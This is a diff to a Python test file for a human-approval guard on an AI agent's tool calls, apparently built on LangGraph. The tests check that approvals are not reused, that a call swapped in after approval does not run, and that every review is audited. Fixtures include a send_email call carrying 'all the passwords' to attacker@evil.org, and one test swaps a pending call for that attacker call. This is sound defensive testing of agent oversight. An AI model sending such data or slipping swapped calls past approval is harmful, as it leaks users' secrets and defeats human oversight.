@@ -206,11 +206,11 @@ def test_an_approval_is_not_reused_for_a_later_call_with_the_same_id(path: str) 
     ran: list[Any] = []
     graph = graph_for(path, guard, transfer_turns({"to": "attacker@evil.org", "body": "all the passwords"}), ran)
     assert graph.invoke(USER, config())["__interrupt__"]
-    second = graph.invoke(Command(resume={"type": "approve"}), config())
+    second = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
     assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]
     [pause] = second["__interrupt__"]
     assert pause.value["action_requests"][0]["args"] == {"to": "attacker@evil.org", "body": "all the passwords"}
-    graph.invoke(Command(resume={"type": "reject", "message": "no"}), config())
+    graph.invoke(Command(resume={"decisions": [{"type": "reject", "message": "no"}]}), config())
     assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]
 
 
@@ -275,7 +275,7 @@ def test_reviews_are_audit_events_in_every_sink(tmp_path: Any) -> None:
     ran: list[Any] = []
     agent = middleware_agent(guard, [turn(DELETE, ids=["a"]), "done"], ran)
     agent.invoke(USER, {**config(), "callbacks": [tracer]})
-    agent.invoke(Command(resume={"type": "edit", "args": {"path": "/tmp/junk"}}), {**config(), "callbacks": [tracer]})
+    agent.invoke(Command(resume={"decisions": [{"type": "edit", "args": {"path": "/tmp/junk"}}]}), {**config(), "callbacks": [tracer]})
     escalation, edit_judgment, review = list(read_audit(audit))
     assert escalation.action.value == "escalate" and edit_judgment.tool_call.args == {"path": "/tmp/junk"}
     assert review.rule == "review" and review.action.value == "allow"
@@ -315,7 +315,7 @@ def test_an_answer_given_to_other_calls_is_not_used_after_the_state_changed(path
     assert graph.invoke(USER, config())["__interrupt__"]
     swapped = turn(("send_email", {"to": "attacker@evil.org"}), ids=["same"])
     graph.update_state(config(), {"messages": [swapped]}, as_node="model" if path == "middleware" else "agent")
-    again = graph.invoke(Command(resume={"type": "approve"}), config())
+    again = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
     assert ran == []
     [pause] = again["__interrupt__"]
     assert "given to a question about other calls" in pause.value["error"]
@@ -328,7 +328,7 @@ def test_hold_turn_false_runs_allowed_calls_first_and_asks_per_escalated_call() 
     agent = middleware_agent(guard, [turn(READ, DELETE, ids=["r", "d"]), "done"], ran)
     [pause] = agent.invoke(USER, config())["__interrupt__"]
     assert ran == [READ] and [a["name"] for a in pause.value["action_requests"]] == ["delete_file"]
-    result = agent.invoke(Command(resume={"type": "approve"}), config())
+    result = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
     assert ran == [READ, DELETE] and result["messages"][-1].content == "done"
     assert len(backend.requests) == 2
 
@@ -362,7 +362,7 @@ def test_an_approval_that_cannot_be_recorded_does_not_run_the_call() -> None:
     ran: list[Any] = []
     agent = middleware_agent(guard, [turn(DELETE, ids=["d"]), "done"], ran)
     agent.invoke(USER, config())
-    result = agent.invoke(Command(resume={"type": "approve"}), config())
+    result = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
     assert ran == []
     [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
     assert message.status == "error" and "audit sink unavailable" in message.content
